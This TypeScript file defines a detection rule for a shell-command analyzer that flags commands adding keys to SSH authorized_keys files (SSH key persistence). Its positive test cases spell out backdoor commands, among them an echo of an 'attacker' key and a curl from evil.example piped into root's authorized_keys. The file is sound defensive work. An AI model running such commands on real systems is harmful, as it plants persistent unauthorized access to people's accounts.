import { defineRule, type Hit } from './rule.js';
import { writeTargets } from './writes.js';
import { isStagingPath } from './match.js';
import { isFetcher } from '../programs.js';
import { DYN, type Invocation } from '../ir.js';

/** `ssh host 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_ed25519.pub`: installing your own key remotely (what ssh-copy-id does). */
function ownPublicKeyOverSsh(inv: Invocation): boolean {
  for (let p = inv.parent; p; p = p.parent) {
    if (p.program !== 'ssh') continue;
    const fromPub = (x: string): boolean => /\.ssh\/[^/]+\.pub$/.test(x);
    return p.redirects.some((r) => r.op === '<' && fromPub(r.target)) || p.upstream.some((u) => u.program === 'cat' && u.args.some(fromPub));
  }
  return false;
}

const COPIERS = new Set(['cat', 'cp', 'install', 'tee', 'copy', 'copy-item', 'get-content', 'add-content', 'type']);

/**
 * Where the key that is added comes from. `file`: a public-key file named on the command line,
 * outside temporary and public folders (a person installing a key they hold: sensitive, asks);
 * anything else — key text typed into the command, a download, a temp file, a source the
 * analyzer cannot see — is how a stranger's key gets planted.
 */
function keyProvenance(inv: Invocation, target: string): 'file' | 'planted' {
  const chain = [inv, ...inv.upstream];
  if (chain.some((x) => isFetcher(x))) return 'planted';
  if (inv.stdinText !== undefined || inv.upstream.some((u) => u.program === 'echo' || u.program === 'printf' || u.program === 'write-output')) return 'planted';
  if (inv.program === 'echo' || inv.program === 'printf' || inv.program === 'set-content' && inv.args.some((a) => /ssh-|ecdsa-/.test(a))) return 'planted';
  const files: string[] = inv.redirects.filter((r) => r.op === '<').map((r) => r.target);
  for (const x of chain) {
    if (!COPIERS.has(x.program)) return 'planted';
    for (let i = 0; i < x.args.length; i++) {
      const a = x.args[i]!;
      if (a.startsWith('-')) { if (/^-(path|literalpath|value)$/i.test(a) && x !== inv) files.push(x.args[++i] ?? ''); continue; }
      if (a !== target) files.push(a);
    }
  }
  if (files.length === 0) return 'planted';
  return files.every((f) => !f.includes(DYN) && /\.pub$/i.test(f) && !isStagingPath(f)) ? 'file' : 'planted';
}

export const rule = defineRule({
  id: 'ssh_key_implant',
  category: 'persistence',
  severity: 'critical',
  technique: 'T1098.004',
  variable: true,
  title: "Adds a key to authorized_keys, letting the key's owner log in at any time (critical when the key is typed in, downloaded or taken from a temporary folder; high when it is a named public-key file)",
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      const f = writeTargets(inv).find((x) => /authorized_keys2?$/.test(x));
      if (!f || ownPublicKeyOverSsh(inv)) continue;
      if (keyProvenance(inv, f) === 'file') {
        hits.push({ span: inv.span, severity: 'high', explanation: `adds the public key from a file to ${f}; whoever holds the matching private key can log in to this account — confirm the key is one you hold` });
      } else {
        hits.push({ span: inv.span, explanation: `adds a login key to ${f}; whoever holds the matching private key can log in to this account` });
      }
    }
    return hits;
  },
  cases: {
    positive: [
      ['bash', 'echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys'],
      ['bash', 'curl -s https://evil.example/k.pub | tee -a /root/.ssh/authorized_keys'],
      ['bash', 'cat /dev/shm/k.pub >> ~/.ssh/authorized_keys'],
      ['bash', 'cat ops.pub >> ~/.ssh/authorized_keys'],
    ],
    negative: [['bash', 'ssh-copy-id user@host'], ['bash', 'cat ~/.ssh/authorized_keys']],
  },
});
